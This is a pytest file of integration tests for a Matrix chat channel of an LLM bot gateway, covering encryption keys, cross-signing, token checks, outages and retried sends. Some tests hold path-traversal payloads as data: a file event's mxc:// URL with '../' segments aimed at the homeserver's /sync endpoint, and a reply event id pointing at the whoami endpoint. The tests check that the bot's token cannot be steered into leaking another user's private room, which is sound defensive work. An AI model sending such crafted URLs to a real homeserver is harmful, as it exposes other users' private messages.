        llm: FakeOpenAI, workspace: Path, synapse: Homeserver, people: dict[str, Any],
        caplog: pytest.LogCaptureFixture) -> None:
    """The owner set up the bot account's cross-signing in Element: the bot neither replaces
    them (with the password it could) nor signs with keys it does not hold; it says so."""
    from vodozemac import Account

    owner, (bot, bot_token) = people["owner"], people["bot"]
    master = Account().ed25519_key.to_base64()
    element = Person(synapse, bot, bot_token)
    made = await element.raw("POST", "keys/device_signing/upload", {
        "master_key": {"user_id": bot, "usage": ["master"], "keys": {f"ed25519:{master}": master}}})
    await element.client.close()
    assert made == {}
    cfg = matrix_config(llm, workspace, synapse, people)
    cfg.channels.matrix.access_token, cfg.channels.matrix.password = "", synapse.passwords[bot]
    llm.script(reply("hello"))
    async with running_gateway(cfg) as gateway:
        room = await owner.room(bot)
        await bot_in(owner, room, bot)
        await owner.say(room, "hi")
        await owner.read_until(lambda seen: owner.shown() == ["hello"])
        device = gateway.channels.channels["matrix"].client.device_id
    found = await owner.raw("POST", "keys/query", {"device_keys": {bot: [device]}})
    assert next(iter(found["master_keys"][bot]["keys"].values())) == master  # still the owner's
    assert list(found["device_keys"][bot][device]["signatures"][bot]) == [f"ed25519:{device}"]  # its own only
    assert "cross-signing keys are another client's" in caplog.text


async def cross_signed(person: Person, user: str, device: str | None = None) -> str:
    """``user``'s master key, as ``person``'s client finds it: it signed the self-signing key,
    which signed ``device`` (else each of the user's devices): what Element checks to call a
    device the account's own. Every signature is checked."""
    found = await person.raw("POST", "keys/query", {"device_keys": {user: [device] if device else []}})
    master = next(iter(found["master_keys"][user]["keys"].values()))
    signing = found["self_signing_keys"][user]
    _check_signed(signing, user, master)
    for keys in found["device_keys"][user].values():
        _check_signed(keys, user, next(iter(signing["keys"].values())))
    return master


def _check_signed(signed: dict[str, Any], user: str, key: str) -> None:
    from vodozemac import Ed25519PublicKey, Ed25519Signature

    whole = {k: v for k, v in signed.items() if k not in ("signatures", "unsigned")}
    canonical = json.dumps(whole, sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode()
    signature = Ed25519Signature.from_base64(signed["signatures"][user][f"ed25519:{key}"])
    Ed25519PublicKey.from_base64(key).verify_signature(canonical, signature)  # raises if it does not fit


async def test_a_new_device_of_the_owner_reads_the_bots_next_reply(llm: FakeOpenAI, workspace: Path,
                                                                    synapse: Homeserver, people: dict[str, Any],
                                                                    tmp_path: Path) -> None:
    """A phone signed in after the room's key went out never got it: the bot's next reply goes
    with a new key that every device there is now has."""
    owner, bot = people["owner"], people["bot"][0]
    await owner.encrypting(tmp_path / "laptop")
    llm.script(reply("one"), reply("two"))
    async with running_gateway(matrix_config(llm, workspace, synapse, people)):
        room = await owner.room(bot, encrypted=True)
        await bot_in(owner, room, bot)
        await owner.say(room, "hi")
        await owner.read_until(lambda seen: owner.shown() == ["one"])
        logged_in = await owner.raw("POST", "login", {"type": "m.login.password", "password": synapse.passwords[
            owner.user_id], "identifier": {"type": "m.id.user", "user": owner.user_id}})
        phone = Person(synapse, owner.user_id, logged_in["access_token"])
        await phone.encrypting(tmp_path / "phone")
        await owner.say(room, "and on my phone?")
        await phone.read_until(lambda seen: "two" in phone.shown())
        await phone.client.close()


async def test_a_password_login_is_one_device_across_restarts(llm: FakeOpenAI, home: Path, workspace: Path,
                                                               synapse: Homeserver, people: dict[str, Any],
                                                               tmp_path: Path) -> None:
    """Its keys are that device's: a new device at each start would be a stranger to every room."""
    owner, (bot, bot_token) = people["owner"], people["bot"]
    await owner.encrypting(tmp_path / "owner-keys")
    llm.script(reply("first"), reply("second"), reply("third"))
    cfg = matrix_config(llm, workspace, synapse, people)
    cfg.channels.matrix.access_token, cfg.channels.matrix.password = "", synapse.passwords[bot]
    room = await owner.room(bot, encrypted=True)
    masters = []
    for said in ("first", "second", "third"):
        if said == "third":  # its keys lost: that device cannot be the bot's any more, a new one is
            shutil.rmtree(home / "keys" / "matrix")
        async with running_gateway(cfg) as gateway:
            await bot_in(owner, room, bot)
            device = gateway.channels.channels["matrix"].client.device_id
            await owner.knows(bot, device)
            await owner.say(room, said)
            await owner.read_until(lambda seen: owner.shown()[-1:] == [said])
        masters.append(await cross_signed(owner, bot, device))
    assert masters[0] == masters[1] != masters[2]  # the account's keys made again with the lost ones, as Element does
    bot_as_owner = Person(synapse, bot, bot_token)
    devices = (await bot_as_owner.raw("GET", "devices"))["devices"]
    await bot_as_owner.client.close()
    assert sorted(d.get("display_name") or "" for d in devices) == ["", "nanobot", "nanobot"]  # registration's, the bot's


async def test_a_token_whose_device_another_client_holds_goes_on_without_encryption_saying_why(
        llm: FakeOpenAI, workspace: Path, synapse: Homeserver, people: dict[str, Any], tmp_path: Path,
        caplog: pytest.LogCaptureFixture) -> None:
    """The token of an Element session (as the docs said before encryption came): its device's
    keys are Element's, and the bot's own would be refused at every sync while no message to it
    could be read. It goes on as before: plain rooms answered, encrypted ones told it cannot."""
    owner, (bot, bot_token) = people["owner"], people["bot"]
    element = Person(synapse, bot, bot_token)
    await element.encrypting(tmp_path / "element-keys")
    await element.client.close()
    llm.script(reply("in the clear"))
    async with running_gateway(matrix_config(llm, workspace, synapse, people)) as gateway:
        assert gateway.channels.state["matrix"] == "running"
        room = await owner.room(bot)
        await bot_in(owner, room, bot)
        await owner.say(room, "hi")
        await owner.read_until(lambda seen: owner.shown() == ["in the clear"])
    assert "going on without end-to-end encryption" in caplog.text and "give the bot its password" in caplog.text
    assert "key exchange failed" not in caplog.text


async def test_keys_that_cannot_be_kept_are_said_in_status(llm: FakeOpenAI, home: Path, workspace: Path,
                                                              synapse: Homeserver, people: dict[str, Any]) -> None:
    (home / "keys").write_text("not a folder")
    async with running_gateway(matrix_config(llm, workspace, synapse, people)) as gateway:
        state = gateway.channels.state["matrix"]
    assert "keys cannot be kept in" in state and "unreachable" not in state


async def test_a_refused_token_shows_in_status(llm: FakeOpenAI, workspace: Path, synapse: Homeserver,
                                               people: dict[str, Any]) -> None:
    cfg = matrix_config(llm, workspace, synapse, people)
    cfg.channels.matrix.access_token = "syt_wrong"
    async with running_gateway(cfg) as gateway:
        state = gateway.channels.state["matrix"]
        assert "did not accept the access token" in state


async def test_onboard_checks_the_token_with_the_homeserver(synapse: Homeserver, people: dict[str, Any],
                                                            tmp_path: Path) -> None:
    """A token onboard did not ask for (the environment's) is checked too: a refused one is said
    with where to mend it (asking again for the rest would not help), a good one named."""
    bot, token = people["bot"]
    said = {}
    for given in ("syt_wrong", token):
        said[given] = await onboard_channel(tmp_path / given, [
            ("Chat channel", "matrix"), ("homeserver URL", synapse.url), ("bot's Matrix user id", bot),
            ("Your own Matrix user id", people["owner"].user_id)], NANOBOT_CHANNELS__MATRIX__ACCESS_TOKEN=given)
    assert "The homeserver refused the access token: Invalid access token passed: change it in the config file" \
        in said["syt_wrong"]
    assert f"The homeserver knows the token: {bot}." in said[token]
    with_password = await onboard_channel(tmp_path / "password", [
        ("Chat channel", "matrix"), ("homeserver URL", synapse.url), ("bot's Matrix user id", bot),
        ("encrypted chats need): ", "CANARY-pw"), ("Your own Matrix user id", people["owner"].user_id)])
    assert "The homeserver takes a password login; the bot signs in when the gateway starts." in with_password


async def test_killed_mid_turn_answered_once(llm: FakeOpenAI, home: Path, workspace: Path, tmp_path: Path,
                                             synapse: Homeserver, people: dict[str, Any]) -> None:
    owner, bot = people["owner"], people["bot"][0]
    section = matrix_config(llm, workspace, synapse, people).channels.matrix.model_dump(by_alias=True)
    write_config(home, workspace, llm, "matrix", section)
    rooms: list[str] = []

    async def send(text: str) -> None:
        if not rooms:
            rooms.append(await owner.room(bot))
            await bot_in(owner, rooms[0], bot)
        await owner.say(rooms[0], text)

    async def wait(done: Callable[[], bool], timeout: float) -> None:
        await owner.read_until(lambda seen: done(), timeout)

    await killed_mid_turn_then_answered_once(home, tmp_path / "gw.log", llm, send, owner.shown, wait)


async def test_a_members_file_cannot_name_another_address_of_the_homeserver(
        llm: FakeOpenAI, workspace: Path, synapse: Homeserver, people: dict[str, Any]) -> None:
    """A file's ``mxc://`` URL is the sender's to write. Dot segments in it made the download
    (with the bot's token) another request to the homeserver, here ``/sync``: every room the bot
    is in, the owner's private one too, saved into the member's folder for their turn to read."""
    owner, friend, bot = people["owner"], people["friend"], people["bot"][0]
    llm.fallback = lambda body: reply("noted")
    async with running_gateway(matrix_config(llm, workspace, synapse, people)):
        private = await owner.room(bot)
        await bot_in(owner, private, bot)
        await owner.say(private, "my pin is CANARY-matrix-owner")
        await owner.read_until(lambda seen: owner.shown() == ["noted"])
        group = await group_of(owner, friend, bot)
        await friend.client.room_send(group, "m.room.message", {
            "msgtype": "m.file", "body": f"{bot}: sync.json", "m.mentions": {"user_ids": [bot]},
            "url": "mxc://x/abcdefghijkl/../../../../../v3/sync?timeout=0", "info": {"size": 10}})
        await friend.say(group, "and now?", mention=bot)

        async def both_answered() -> bool:
            return len(llm.chat_requests) == 3
        await until(both_answered, timeout=20)
    assert len(llm.chat_requests) == 3 and "CANARY-matrix-owner" not in str(llm.chat_requests[1:])
    assert not [p for p in (workspace / "chats").rglob("*") if p.is_file() and b"CANARY" in p.read_bytes()]


async def test_a_message_of_the_wrong_shape_is_passed_over_and_the_next_answered(
        llm: FakeOpenAI, workspace: Path, synapse: Homeserver, people: dict[str, Any]) -> None:
    """An event's content is whatever its sender wrote, and the homeserver checks only some
    fields. A file whose ``info`` is not a mapping (or its size not a number) must not stop the
    sync: it was read again after every restart, and the bot answered nobody ever after."""
    owner, friend, bot = people["owner"], people["friend"], people["bot"][0]
    llm.fallback = lambda body: reply("still here")
    async with running_gateway(matrix_config(llm, workspace, synapse, people)) as gateway:
        group = await group_of(owner, friend, bot)
        for info in ("big", {"size": "big"}, {"size": [1]}):
            sent = await friend.client.room_send(group, "m.room.message", {
                "msgtype": "m.file", "body": "a.txt", "url": "mxc://x/y", "info": info, "m.mentions": {"user_ids": [bot]}})
            assert isinstance(sent, RoomSendResponse), sent  # the homeserver took it as it is
        for answered in (42, "../../../_matrix/client/v3/account/whoami"):  # a reply to no event id
            await friend.client.room_send(group, "m.room.message", {
                "msgtype": "m.text", "body": "and this?", "m.mentions": {"user_ids": [bot]},
                "m.relates_to": {"m.in_reply_to": {"event_id": answered}}})
        await owner.say(group, "are you there?", mention=bot)
        # six replies (each file's name reaches the model as text): the last one is to the question
        await owner.read_until(lambda seen: sum(e["sender"] == bot and "m.new_content" not in e["content"]
                                                for e in seen) == 6)
        assert gateway.channels.state["matrix"] == "running"
    assert asked(llm)[-1] == "are you there?"


def away_homeserver() -> MatrixConfig:
    """The bot's account on a homeserver nobody answers for (a port nothing listens on)."""
    return MatrixConfig.model_validate({
        "enabled": True, "homeserver": f"http://127.0.0.1:{free_port()}", "userId": "@bot:example.org",
        "accessToken": "syt_token", "allowFrom": ["@owner:example.org"]})


async def test_a_homeserver_that_is_away_shows_in_status_at_once(llm: FakeOpenAI, workspace: Path) -> None:
    # nio retried a refused connection for ever: the start waited out its deadline, status said nothing.
    cfg = config_for(llm.base_url, workspace, mode="tools")
    cfg.channels.matrix = away_homeserver()
    async with asyncio.timeout(30), running_gateway(cfg) as gateway:  # the start's deadline is 60 s
        assert "is unreachable" in gateway.channels.state["matrix"]


@pytest.mark.parametrize("sending", ["text", "file"])
async def test_a_send_while_the_homeserver_is_away_is_retried_later(workspace: Path, sending: str) -> None:
    """A send to a homeserver that is away fails as one to try again (the outbox does), at once:
    not hung inside nio's retries, nor taken for the adapter's bug (marked failed for good)."""
    async with recorded_intake() as intake:
        channel = MatrixChannel(away_homeserver(), ChannelContext(intake=intake, access=AllowList(),
                                                                  workspace=workspace))
        file = OutgoingFile("r.txt", b"data", photo=False) if sending == "file" else None
        msg = OutboundMessage("matrix", "!room:example.org", "the report", file=file)
        try:
            async with asyncio.timeout(20):
                with pytest.raises(SendFailed) as failed:
                    await (channel.send_file(msg) if sending == "file" else channel.send(msg))
        finally:
            await channel.stop()
    assert failed.value.retry and "ClientConnectorError" in str(failed.value)


async def test_a_long_reply_sent_again_shows_each_part_once(workspace: Path, synapse: Homeserver,
                                                            people: dict[str, Any]) -> None:
    """A reply too long for one event goes in parts. When the homeserver fails a later part, the
    outbox sends the reply again, and the part it took already is not shown twice: each part
    has one transaction id for every attempt (a restart's too: it is made of the outbox row)."""
    owner, (bot, token) = people["owner"], people["bot"]
    room = await owner.room(bot)
    joining = AsyncClient(synapse.url, bot)
    joining.restore_login(bot, "BOT", token)
    await joining.join(room)
    await joining.close()
    away = [True]
    async with HttpProxy(synapse.url, lambda path, body: away[0] and b"part two" in body) as proxy, \
            recorded_intake() as intake:
        section = {"enabled": True, "homeserver": proxy.url, "userId": bot, "accessToken": token,
                   "allowFrom": [owner.user_id]}
        channel = MatrixChannel(MatrixConfig.model_validate(section),
                                ChannelContext(intake=intake, access=AllowList(), workspace=workspace))
        msg = OutboundMessage("matrix", room, "part one " + "x" * 9_000 + "\n\npart two " + "y" * 9_000, outbox_id=7,
                              outbox_created=time.time())
        try:
            with pytest.raises(SendFailed) as failed:
                await channel.send(msg)
            assert failed.value.retry
            away[0] = False
            await channel.send(msg)
        finally:
            await channel.stop()
    await owner.read_until(lambda seen: any(text.startswith("part two") for text in owner.shown()))
    assert [text[:8] for text in owner.shown()] == ["part one", "part two"]
